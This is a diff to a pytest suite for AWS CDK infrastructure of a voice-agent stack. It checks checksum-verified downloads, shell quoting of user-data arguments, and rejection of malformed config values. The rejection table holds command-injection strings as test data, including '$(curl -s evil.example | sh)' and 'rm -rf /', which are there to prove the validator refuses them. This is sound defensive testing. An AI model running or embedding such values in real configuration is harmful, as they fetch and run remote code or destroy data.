@@ -4,13 +4,24 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
 
 import pytest
 
-from tests.infra.conftest import cdk_context, policy_statements, resources, synth
+from tests.infra.conftest import TOKEN, cdk_context, policy_statements, resources, synth, user_data
 from voice_agent.deploy.ports import PUBLIC_PORTS
 
 ASSET_BUCKET = "cdk-hnb659fds-assets-"
+# A deployment with every value that reaches the instance's shell set.
+EVERY_VALUE = {
+    "voice:domain": "voice.batterysmart.example",
+    "voice:acme_email": "ops@batterysmart.example",
+    "voice:hours": "06:00-23:00 Asia/Kolkata",
+    "web:support_phone": "+91 80 4567 8900",
+    "voice:silence_timeout_seconds": 45,
+    "voice:max_call_minutes": 10,
+    "voice:max_calls": 3,
+}
 
 
 def test_instance_requires_imdsv2_encrypts_its_disk_and_has_no_key_pair(voice_template):
@@ -116,12 +127,69 @@ def test_no_secret_in_the_template_or_user_data(voice_template):
 
 
 def test_user_data_installs_the_arm64_compose_only_if_its_checksum_matches(voice_template):
-    (instance,) = resources(voice_template, "AWS::EC2::Instance").values()
-    user_data = json.dumps(instance["Properties"]["UserData"])
-    assert "docker-compose-linux-aarch64" in user_data and "x86_64" not in user_data
-    assert "sha256sum -c" in user_data
-    assert "--certificate ip" in user_data and "--web-origin-parameter" in user_data
-    assert "mkswap /swapfile" in user_data
+    script = user_data(voice_template)
+    assert "docker-compose-linux-aarch64" in script and "x86_64" not in script
+    assert "sha256sum -c" in script
+    assert "--certificate 'ip'" in script and "--web-origin-parameter" in script
+    assert "mkswap /swapfile" in script
+
+
+def _downloads(script: str) -> list[tuple[int, str]]:
+    """(line, file) of every curl or wget that writes a file."""
+    found = []
+    for number, line in enumerate(script.splitlines()):
+        for tool, arguments in re.findall(r"\b(curl|wget)\b([^;|&)]*)", line):
+            flag = {
+                "curl": r"(?:-[a-zA-Z]*o|--output)",
+                "wget": r"(?:-[a-zA-Z]*O|--output-document)",
+            }[tool]
+            target = re.search(rf"(?:^|\s){flag}[\s=](\S+)", arguments)
+            if tool == "wget" or target or re.search(r"\s-[a-zA-Z]*O\b", arguments):
+                found.append((number, target.group(1) if target else "?"))
+    return found
+
+
+@pytest.mark.parametrize("context", [{}, {"voice:instance_type": "t3.medium"}])
+def test_every_download_in_the_user_data_is_checked_against_its_sha256(context):
+    """A download is used only after `sha256sum -c` of exactly that file. The other curls ask
+    the instance metadata service, on the host (no file); the app, the secret and the
+    certificates come from this account with the instance role, over TLS."""
+    script = user_data(synth(cdk_context(**context), "VoiceStack")[1])
+    lines = script.splitlines()
+    downloads = _downloads(script)
+    assert downloads, "the compose plugin is downloaded"
+    for number, target in downloads:
+        check = re.fullmatch(r"echo '([0-9a-f]{64})  (\S+)' \| sha256sum -c -", lines[number + 1])
+        assert check and check.group(2) == target, lines[number : number + 2]
+    other = [line for line in lines if re.search(r"\b(curl|wget)\b", line)]
+    assert len(other) == len(downloads) + 2  # the metadata token and the public-ip poll
+    assert all("169.254.169.254" in line for line in other if "-o " not in line)
+
+
+def test_every_argument_of_the_render_command_is_a_single_quoted_word(voice_template):
+    for template in (voice_template, synth(cdk_context(**EVERY_VALUE), "VoiceStack")[1]):
+        (line,) = [ln for ln in user_data(template).splitlines() if "/render.py " in ln]
+        arguments = line.split("/render.py ", 1)[1]
+        assert re.fullmatch(r"--[a-z-]+ '[^']*'( --[a-z-]+ '[^']*')*", arguments), arguments
+    words = shlex.split(arguments.replace(TOKEN, "TOKEN"))
+    given = dict(zip(words[::2], words[1::2], strict=True))
+    assert given["--hostname"] == "voice.batterysmart.example"
+    assert given["--acme-email"] == "ops@batterysmart.example"
+    assert given["--hours"] == "06:00-23:00 Asia/Kolkata"
+    assert given["--support-phone"] == "+91 80 4567 8900"
+    assert given["--silence-timeout"] == "45" and given["--max-call-seconds"] == "600"
+    assert given["--max-calls"] == "3"
+    assert given["--public-ip"] == "TOKEN" and given["--state-bucket"] == "TOKEN"
+
+
+def test_every_deploy_time_value_in_the_user_data_is_inside_single_quotes(voice_template):
+    """An address, a bucket name or an ARN is known only at deploy time: each is wrapped in
+    quotes as a whole, so what it resolves to is one word wherever it appears."""
+    script = user_data(synth(cdk_context(**EVERY_VALUE), "VoiceStack")[1])
+    assert script.count(TOKEN) >= 8
+    for line in script.splitlines():
+        unquoted = line.split("'")[0::2]  # outside single quotes
+        assert not any(TOKEN in part for part in unquoted), line
 
 
 def test_an_x86_instance_gets_the_x86_image_and_compose():
@@ -164,6 +232,46 @@ def test_the_sslip_fallback_is_named_from_the_ip():
         ({"voice:certificate": "self-signed"}, "must be one of"),
         ({"voice:hosted_zone_id": "Z123"}, "needs voice:domain"),
         ({"voice:domain": "voice.example.com; rm -rf /"}, "voice:domain"),
+        ({"voice:domain": "x.com; rm -rf /"}, "voice:domain 'x.com; rm -rf /' is not a host"),
+        ({"voice:domain": "$(reboot).example.com"}, "voice:domain .* is not a host name"),
+        (
+            {"voice:acme_email": "$(curl -s evil.example | sh)@x.example"},
+            "voice:acme_email .* is not an e-mail address",
+        ),
+        ({"voice:acme_email": "ops@x.example'; reboot; '"}, "voice:acme_email"),
+        ({"web:support_phone": "+91 80 `reboot`"}, "web:support_phone .* is not a phone"),
+        ({"web:support_phone": "+91 80\nreboot"}, "web:support_phone"),
+        (
+            {
+                "voice:domain": "voice.example.com",
+                "voice:hosted_zone_id": "Z123",
+                "voice:hosted_zone_name": "example.com|reboot",
+            },
+            "voice:hosted_zone_name",
+        ),
+        (
+            {
+                "voice:domain": "voice.example.com",
+                "voice:hosted_zone_id": "Z1; reboot",
+                "voice:hosted_zone_name": "example.com",
+            },
+            "voice:hosted_zone_id",
+        ),
+        ({"voice:instance_type": "t4g.small;reboot"}, "voice:instance_type"),
+        ({"voice:max_calls": "4; reboot"}, "voice:max_calls must be a whole number"),
+        ({"voice:max_calls": 0}, "voice:max_calls must be 1 to 50"),
+        ({"voice:silence_timeout_seconds": "60 && reboot"}, "voice:silence_timeout_seconds"),
+        ({"voice:silence_timeout_seconds": 5}, "voice:silence_timeout_seconds must be 10 to"),
+        ({"voice:max_call_minutes": 0}, "voice:max_call_minutes must be 1 to 120"),
+        ({"voice:max_call_minutes": True}, "voice:max_call_minutes must be a whole number"),
+        (
+            {"voice:silence_timeout_seconds": 300, "voice:max_call_minutes": 5},
+            "must be shorter than voice:max_call_minutes",
+        ),
+        (
+            {"voice:hours": "06:00-23:00 Asia/Kolkata", "voice:max_call_minutes": 20},
+            "would be cut off",
+        ),
         ({"voice:hours": "6am-11pm"}, "voice:hours"),
         ({"voice:hours": "06:00-23:00 Mars/Olympus"}, "unknown time zone"),
         ({"voice:hours": "00:00-23:55 Asia/Kolkata"}, "closed at least 30 minutes"),
@@ -179,8 +287,7 @@ def test_a_domain_of_ones_own_is_used_and_needs_no_dns_zone():
     outputs = template.to_json()["Outputs"]
     assert outputs["LiveKitUrl"]["Value"] == "wss://voice.batterysmart.example"
     template.resource_count_is("AWS::Route53::RecordSet", 0)
-    (instance,) = resources(template, "AWS::EC2::Instance").values()
-    assert "--hostname voice.batterysmart.example" in json.dumps(instance["Properties"])
+    assert "--hostname 'voice.batterysmart.example'" in user_data(template)
 
 
 def test_with_a_route53_zone_the_stack_points_the_domain_at_the_elastic_ip():
@@ -204,13 +311,12 @@ def test_with_a_route53_zone_the_stack_points_the_domain_at_the_elastic_ip():
 def test_a_replaced_instance_restores_caddys_certificates_before_it_serves(voice_template):
     """Every code deploy replaces the instance; asking the CA again each time would soon
     reach its limit of certificates for the same name."""
-    (instance,) = resources(voice_template, "AWS::EC2::Instance").values()
-    user_data = json.dumps(instance["Properties"]["UserData"])
-    restore = user_data.index("aws s3 sync s3://")
-    assert "/caddy/ /opt/voice/caddy-data/" in user_data[restore : restore + 200]
-    assert "systemctl enable --now caddy-state.timer" in user_data
-    waits = user_data.index("meta-data/public-ipv4")
-    assert restore < waits < user_data.index("docker compose up -d --build")
+    script = user_data(voice_template)
+    restore = script.index("aws s3 sync 's3://")
+    assert "/caddy/' /opt/voice/caddy-data/" in script[restore : restore + 200]
+    assert "systemctl enable --now caddy-state.timer" in script
+    waits = script.index("meta-data/public-ipv4")
+    assert restore < waits < script.index("docker compose up -d --build")
     statements = policy_statements(voice_template, "HostRole")
     state = [s for s in statements if "StateBucket" in json.dumps(s["Resource"])]
     assert sorted(json.dumps(s["Action"]) for s in state) == [
